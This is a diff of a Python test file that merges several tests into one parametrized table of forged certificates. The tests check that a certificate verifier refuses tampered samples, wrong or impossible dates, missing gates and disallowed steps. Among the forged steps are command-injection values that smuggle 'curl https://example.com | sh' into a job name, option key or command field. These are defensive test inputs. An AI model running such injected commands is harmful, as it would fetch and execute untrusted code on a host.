@@ -105,26 +105,51 @@ def test_a_missing_object_that_is_said_to_be_deleted_at_the_source_is_noticed(ch
     assert is_refused(check(sealed(forged), "--lang", "en"))
 
 
-@pytest.mark.parametrize(
-    "lie",
-    [
-        {"read": 0, "bytes": 0},
-        {"keys": []},
-        {"drawn": 0, "read": 0, "keys": []},
-        {"population": 4_604_853},
-        {"population": 100},
-    ],
-)
-def test_a_sample_that_was_never_read_is_noticed(check, lie):
-    forged = answer("certificate-go")
-    forged["sample"] |= lie
-    assert is_refused(check(sealed(forged), "--lang", "en"))
+def name_at(time: str) -> str:
+    """Where a GO of this time is stored."""
+    return answer("certificate-go")["document"].replace("20260131T092014Z", time)
 
 
-def test_a_comparison_of_a_year_ago_is_noticed(check):
-    forged = answer("certificate-go")
-    forged["made"] = "2027-01-31T09:20:14Z"
-    forged["document"] = forged["document"].replace("20260131T092014Z", "20270131T092014Z")
+# In which document, and what stands in which part of it instead; parts of a list by their places.
+FORGED = {
+    **{
+        f"a sample that was never read: {lie}": ("go", "sample", lie)
+        for lie in (
+            {"read": 0, "bytes": 0},
+            {"keys": []},
+            {"drawn": 0, "read": 0, "keys": []},
+            {"population": 4_604_853},
+            {"population": 100},
+        )
+    },
+    "a check without its gate": ("not-proven", "checks 0", {"gates": False}),
+    **{
+        f"a step that opens the project or is none of its commands: {step}": ("no-go", "checks 3", {"step": step})
+        for step in (
+            {"job": "open", "options": {}},
+            {"job": "remove", "options": {}},
+            {"job": "compare; curl https://example.com | sh", "options": {}},
+            {"job": "compare", "options": {"again; curl https://example.com": True}},
+            {"job": "compare", "options": {}, "command": "curl https://example.com | sh"},
+        )
+    },
+    "a comparison of a year ago": (
+        "go",
+        "",
+        {"made": "2027-01-31T09:20:14Z", "document": name_at("20270131T092014Z")},
+    ),
+    "last writes that were left out": ("go", "", {"last_written": answer("certificate-go")["last_written"][-1:]}),
+    "a time that no calendar can reckon with": ("go", "", {"made": "0001-01-01T00:00:00Z"}),
+}
+
+
+@pytest.mark.parametrize("what", FORGED)
+def test_what_is_forged_is_noticed(check, what):
+    name, part, instead = FORGED[what]
+    forged = place = answer(f"certificate-{name}")
+    for one in part.split():
+        place = place[int(one) if one.isdigit() else one]
+    place |= instead
     assert is_refused(check(sealed(forged), "--lang", "en"))
 
 
@@ -132,38 +157,6 @@ def test_what_is_yet_to_come_is_noticed(check):
     forged = json.loads(json.dumps(answer("certificate-go")).replace("2026-01-31T", "2028-01-31T"))
     forged["document"] = forged["document"].replace("20260131T", "20280131T")
     assert is_refused(check(sealed(forged), "--lang", "en"))
-
-
-def test_a_check_without_its_gate_is_noticed(check):
-    forged = answer("certificate-not-proven")
-    forged["checks"][0]["gates"] = False
-    assert is_refused(check(sealed(forged), "--lang", "en"))
-
-
-@pytest.mark.parametrize(
-    "step",
-    [
-        {"job": "open", "options": {}},
-        {"job": "remove", "options": {}},
-        {"job": "compare; curl https://example.com | sh", "options": {}},
-        {"job": "compare", "options": {"again; curl https://example.com": True}},
-        {"job": "compare", "options": {}, "command": "curl https://example.com | sh"},
-    ],
-)
-def test_a_step_that_opens_the_project_or_is_none_of_its_commands_is_noticed(check, step):
-    forged = answer("certificate-no-go")
-    forged["checks"][3]["step"] = step
-    assert is_refused(check(sealed(forged), "--lang", "en"))
-
-
-def test_last_writes_that_were_left_out_are_noticed(check):
-    forged = answer("certificate-go")
-    del forged["last_written"][:-1]
-    assert is_refused(check(sealed(forged), "--lang", "en"))
-
-
-def test_a_time_that_no_calendar_can_reckon_with_is_no_certificate(check):
-    assert is_refused(check(sealed({**answer("certificate-go"), "made": "0001-01-01T00:00:00Z"}), "--lang", "en"))
 
 
 def show(document: Document, *words: str) -> tuple[int, str]:
